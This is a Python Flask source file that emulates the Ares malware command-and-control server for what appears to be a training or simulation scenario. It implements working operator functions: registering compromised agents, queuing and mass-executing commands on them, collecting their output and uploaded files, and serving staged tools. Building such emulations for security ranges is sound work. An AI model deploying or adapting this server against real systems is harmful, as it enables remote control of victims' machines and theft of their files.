#!/usr/bin/env python3
"""ares_server.py - an emulation of the Ares command-and-control server
(sweetsoftware/Ares, a Flask application) for the `ares` scenario. Our own
Python 3 code on Debian's Flask; state is kept in memory instead of
Ares's SQLAlchemy database, the pages are our own small templates.

The routes, as Ares has them:

  agents
    POST /api/<agent>/hello    JSON {platform, hostname, username}: records
                               the agent, answers with its newest pending
                               command (text, empty when none) and drops it
    POST /api/<agent>/report   form `output`: appended to the agent's console
    POST /api/<agent>/upload   multipart files: saved under uploads/<agent>/
    GET  /uploads/<path>       files the agents uploaded (and the operator's
                               tools, staged under uploads/tools/)
  operator (after POST /login with the admin password)
    GET  /                     the dashboard
    GET  /agents               the agent list
    GET  /agents/<agent>       an agent's details and console
    POST /api/<agent>/push     form `cmdline`: queue a command
    POST /api/massexec         form `selection` (agents), `execute`, `cmd`
    GET  /api/<agent>/stdout   the agent's console (HTML-escaped)
    GET  /logout

Environment: ARES_PASSWORD (the admin password), ARES_PORT, ARES_TLS
(cert,key paths, or empty for plain HTTP), ARES_UPLOADS.
"""

import html
import os
import sys
import threading
from datetime import datetime
from functools import wraps

from flask import Flask, abort, redirect, request, send_from_directory, session, url_for
from werkzeug.utils import secure_filename

UPLOADS = os.environ.get("ARES_UPLOADS", "/srv/ares/uploads")
PASSWORD = os.environ["ARES_PASSWORD"]

app = Flask(__name__)
app.secret_key = os.urandom(24)
lock = threading.Lock()
agents = {}  # id -> dict(platform, hostname, username, remote_ip, last_online, output, commands)


def log(*args):
    print("c2:", *args, flush=True)


def page(title, body):
    return (
        "<!DOCTYPE html><html><head><title>Ares - %s</title></head><body>"
        '<nav><a href="/">Ares</a> | <a href="/agents">Agents</a> | <a href="/logout">Logout</a></nav>'
        "<h2>%s</h2>%s</body></html>" % (html.escape(title), html.escape(title), body)
    )


def require_admin(func):
    @wraps(func)
    def wrapper(*args, **kwargs):
        if session.get("username") == "admin":
            return func(*args, **kwargs)
        return redirect(url_for("login"))

    return wrapper


def agent_or_404(agent_id):
    agent = agents.get(agent_id)
    if agent is None:
        abort(404)
    return agent


# ---- agents -----------------------------------------------------------------
@app.route("/api/<agent_id>/hello", methods=["POST"])
def hello(agent_id):
    info = request.get_json(silent=True) or {}
    with lock:
        agent = agents.get(agent_id)
        if agent is None:
            agent = agents[agent_id] = {"output": "", "commands": []}
            log("new agent %s from %s" % (agent_id, request.remote_addr))
        for key in ("platform", "hostname", "username"):
            if key in info:
                agent[key] = info[key]
        agent["last_online"] = datetime.now()
        agent["remote_ip"] = request.remote_addr
        cmd = ""
        if agent["commands"]:
            cmd = agent["commands"].pop()  # the newest, as Ares orders them
            log("%s takes %r" % (agent_id, cmd))
    return cmd


@app.route("/api/<agent_id>/report", methods=["POST"])
def report(agent_id):
    with lock:
        agent = agent_or_404(agent_id)
        agent["output"] += html.escape(request.form["output"])
    return ""


@app.route("/api/<agent_id>/upload", methods=["POST"])
def upload(agent_id):
    with lock:
        agent = agent_or_404(agent_id)
    for f in request.files.values():
        store = os.path.join(UPLOADS, agent_id)
        os.makedirs(store, exist_ok=True)
        name = secure_filename(f.filename)
        path = os.path.join(store, name)
        while os.path.exists(path):
            name = "_" + name
            path = os.path.join(store, name)
        f.save(path)
        link = url_for("uploads", path=agent_id + "/" + name)
        with lock:
            agent["output"] += '[*] File uploaded: <a target="_blank" href="%s">%s</a>\n' % (link, link)
        log("%s uploaded %s (%d bytes)" % (agent_id, name, os.path.getsize(path)))
    return ""


@app.route("/uploads/<path:path>")
def uploads(path):
    return send_from_directory(UPLOADS, path)


# ---- the operator -------------------------------------------------------------
@app.route("/login", methods=["GET", "POST"])
def login():
    message = ""
    if request.method == "POST":
        if request.form.get("password") == PASSWORD:
            session["username"] = "admin"
            log("operator logged in from %s" % request.remote_addr)
            return redirect(url_for("index"))
        message = "<p>Wrong passphrase</p>"
        log("wrong passphrase from %s" % request.remote_addr)
    return page(
        "Login",
        message + '<form method="post"><input type="password" name="password">'
        '<input type="submit" value="Log in"></form>',
    )


@app.route("/logout")
def logout():
    session.pop("username", None)
    return redirect(url_for("login"))


@app.route("/")
@require_admin
def index():
    return page("Dashboard", "<p>%d agents</p>" % len(agents))


@app.route("/agents")
@require_admin
def agent_list():
    with lock:
        items = sorted(agents.items(), key=lambda kv: kv[1]["last_online"], reverse=True)
        rows = "".join(
            '<tr><td><input type="checkbox" name="selection" value="{id}"></td>'
            '<td><a href="/agents/{id}">{id}</a></td><td>{os}</td><td>{host}</td><td>{ip}</td><td>{last}</td></tr>'.format(
                id=html.escape(i),
                os=html.escape(a.get("platform", "")),
                host=html.escape(a.get("hostname", "")),
                ip=a.get("remote_ip", ""),
                last=a["last_online"].strftime("%Y-%m-%d %H:%M:%S"),
            )
            for i, a in items
        )
    return page(
        "Agents",
        '<form method="post" action="/api/massexec"><table>%s</table>'
        '<input name="cmd"><input type="submit" name="execute" value="Execute"></form>' % rows,
    )


@app.route("/agents/<agent_id>")
@require_admin
def agent_detail(agent_id):
    with lock:
        agent = agent_or_404(agent_id)
        body = "<p>%s - %s - %s</p><pre>%s</pre>" % (
            html.escape(agent.get("hostname", "")),
            html.escape(agent.get("username", "")),
            html.escape(agent.get("platform", "")),
            agent["output"],
        )
    return page("Agent " + agent_id, body)


@app.route("/api/<agent_id>/push", methods=["POST"])
@require_admin
def push(agent_id):
    with lock:
        agent_or_404(agent_id)["commands"].append(request.form["cmdline"])
    log("queued for %s: %r" % (agent_id, request.form["cmdline"]))
    return ""


@app.route("/api/massexec", methods=["POST"])
@require_admin
def massexec():
    selection = request.form.getlist("selection")
    if "execute" in request.form:
        with lock:
            for agent_id in selection:
                agent_or_404(agent_id)["commands"].append(request.form["cmd"])
        log("queued for %d agents: %r" % (len(selection), request.form["cmd"]))
    return redirect(url_for("agent_list"))


@app.route("/api/<agent_id>/stdout")
@require_admin
def stdout(agent_id):
    with lock:
        return agent_or_404(agent_id)["output"]


def main():
    port = int(os.environ.get("ARES_PORT", "8080"))
    tls = os.environ.get("ARES_TLS", "")
    ssl_context = tuple(tls.split(",")) if tls else None
    log("serving on port %d (%s)" % (port, "https" if tls else "http"))
    app.run(host="0.0.0.0", port=port, threaded=True, ssl_context=ssl_context)


if __name__ == "__main__":
    sys.exit(main())
